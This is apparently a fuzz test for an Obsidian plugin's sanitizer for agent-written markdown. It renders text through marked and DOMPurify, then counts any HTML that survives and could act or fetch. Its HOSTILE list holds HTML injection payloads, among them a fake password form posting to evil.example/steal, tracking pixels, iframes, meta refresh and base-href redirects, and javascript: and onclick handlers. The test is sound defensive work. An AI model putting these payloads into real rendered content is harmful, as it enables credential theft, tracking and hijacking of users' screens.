/**
 * Agent-written markdown through the pane's two steps (src/ui/shared/agent-html.ts) in plain Node
 * over jsdom: prepared, rendered by a stand-in for Obsidian's renderer at its most permissive
 * (marked, then DOMPurify's defaults, which is what Obsidian documents for raw HTML: no
 * script, no handler), walked by the allow-list. Counts what is left that could act or
 * fetch: forms and inputs, style, inline styles, frames, media, remote images, handlers.
 */
import DOMPurify from 'dompurify';
import { JSDOM } from 'jsdom';
import { marked } from 'marked';
import { prepareAgentMarkdown, sanitizeAgentDom } from '../../../src/ui/shared/agent-html';
import { type CheckResult, Tally } from './report';
import { Rng } from './rng';

const HOSTILE = [
	'<form action="https://evil.example/steal"><input type="password" name="pw"><button>Sign in</button></form>',
	'<style>body{display:none}</style>',
	'<span style="position:fixed;inset:0">cover</span>',
	'<img src="https://track.example/p.gif">',
	'![pixel](https://track.example/p.gif)',
	'![pixel](//track.example/p.gif)',
	'<img srcset="https://track.example/a.png 2x">',
	'<iframe src="https://evil.example"></iframe>',
	'<object data="https://evil.example/x.swf"></object>',
	'<embed src="https://evil.example/x">',
	'<video src="https://evil.example/v.mp4"></video>',
	'<audio><source src="https://evil.example/a.mp3"></audio>',
	'<link rel="stylesheet" href="https://evil.example/x.css">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<base href="https://evil.example/">',
	'<svg><image href="https://track.example/s.png"/></svg>',
	'<a href="javascript:alert(1)">x</a>',
	'<div onclick="alert(1)">x</div>',
	'<table><tr><td background="https://track.example/t.png">x</td></tr></table>',
	'<textarea>x</textarea><select><option>x</option></select>',
];
const WRAPPERS: ((s: string) => string)[] = [
	(s) => s,
	(s) => `> ${s}`,
	(s) => `- ${s}`,
	(s) => `**${s}**`,
	(s) => `| a | b |\n|---|---|\n| ${s} | x |`,
	(s) => `[link](https://example.com) ${s}`,
	(s) => `text before\n\n${s}\n\ntext after`,
	(s) => `1. one\n2. ${s}`,
];

/** Selectors for what must never be live in the pane (remote images allowed: off). */
const LIVE = 'form, input, button, textarea, select, style, link, meta, base, iframe, frame, object, embed, video, audio, source, svg, script, [style], [srcset], [background], img[src^="http"], img[src^="//"]';

export function agentText(runs: number, seed: number): CheckResult {
	const t = new Tally();
	t.zero('agent texts rendered', 'live HTML kept in agent text');
	const { window } = new JSDOM('<!doctype html><body></body>', { url: 'app://obsidian.md/index.html' });
	const purify = DOMPurify(window as unknown as Window & typeof globalThis);
	const rng = new Rng(seed);
	for (let i = 0; i < runs; i++) {
		const parts: string[] = [];
		for (let k = 1 + rng.int(3); k > 0; k--) parts.push(rng.pick(WRAPPERS)(rng.pick(HOSTILE)));
		const text = parts.join(rng.chance(0.5) ? '\n\n' : ' ');
		const html = marked.parse(prepareAgentMarkdown(text, { remoteImages: false }), { async: false });
		const root = window.document.createElement('div');
		root.appendChild(purify.sanitize(html, { RETURN_DOM_FRAGMENT: true }));
		sanitizeAgentDom(root, { remoteImages: false }, window.document.baseURI);
		t.add('agent texts rendered');
		const live = [...root.querySelectorAll(LIVE)];
		const handlers = [...root.querySelectorAll('*')].filter((el) => [...el.attributes].some((a) => /^on/i.test(a.name) || /^\s*javascript:/i.test(a.value)));
		if (live.length + handlers.length > 0) t.fail('live HTML kept in agent text', `seed ${seed} run ${i}: ${JSON.stringify(text)} → ${root.outerHTML.slice(0, 300)}`);
	}
	return t.result();
}
